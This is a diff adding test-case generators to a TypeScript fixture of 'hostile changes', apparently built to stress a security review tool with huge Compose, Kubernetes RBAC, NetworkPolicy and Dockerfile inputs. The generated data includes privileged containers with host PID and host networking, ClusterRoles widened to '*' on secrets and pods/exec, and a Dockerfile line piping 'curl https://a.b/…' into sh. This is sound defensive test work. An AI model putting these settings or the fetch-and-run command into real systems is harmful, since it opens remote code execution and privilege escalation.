@@ -106,6 +106,34 @@ export const hostileChanges: Readonly<Record<string, (bytes: number) => Change>>
       );
     return { base: side('    securityContext: {readOnlyRootFilesystem: true}\n'), head: side('') };
   },
+  'services that merge one another (Compose)': bytes => {
+    const text = (extra: string): string =>
+      `x-0: &a0 {image: nginx${extra}}\n${fill(bytes >> 1, index => `x-${index + 1}: &a${index + 1} {<<: *a${index}}\n`)}services:\n${fill(bytes >> 1, index => `  s${index}: {<<: *a${index % 20}, privileged: true}\n`)}`;
+    return { base: { 'compose.yaml': text('') }, head: { 'compose.yaml': text(', pid: host') } };
+  },
+  'policies that select one another’s pods (Kubernetes)': bytes => {
+    const text = (extra: string): string =>
+      fill(
+        bytes,
+        index =>
+          `apiVersion: v1\nkind: Pod\nmetadata: {name: p${index}, labels: {a: x${index % 7}, b: y${index}}}\nspec: {hostNetwork: true, containers: [{name: a, image: nginx}]}\n---\napiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: n${index}}\nspec: {podSelector: {matchLabels: {a: x${index % 5}${extra}}}, policyTypes: [Ingress]}\n---\n`,
+      );
+    return { base: { 'a.yaml': text('') }, head: { 'a.yaml': text(', b: z') } };
+  },
+  'roles and bindings of one name each, all rules changed (Kubernetes)': bytes => {
+    const text = (verb: string): string =>
+      fill(
+        bytes,
+        index =>
+          `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: r${index % 50}}\nrules: [{apiGroups: [""], resources: [secrets, pods/exec], verbs: [${verb}]}]\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: b${index}}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: r${index % 50}}\nsubjects: [{kind: ServiceAccount, name: s${index % 30}, namespace: d}]\n---\n`,
+      );
+    return { base: { 'rbac.yaml': text('get') }, head: { 'rbac.yaml': text('"*"') } };
+  },
+  'here-documents that run each other (Dockerfile)': bytes => {
+    const text = (tool: string): string =>
+      `FROM debian:12\n${fill(bytes, index => `RUN <<E${index} ${tool} /f${index} && sh /f${index}\ncurl https://a.b/${index} | sh\nE${index}\n`)}`;
+    return dockerfile(text('cat >'), text('cat > /dev/null; cat >'));
+  },
   'nested anchors (Compose)': bytes => ({
     base: {},
     head: {
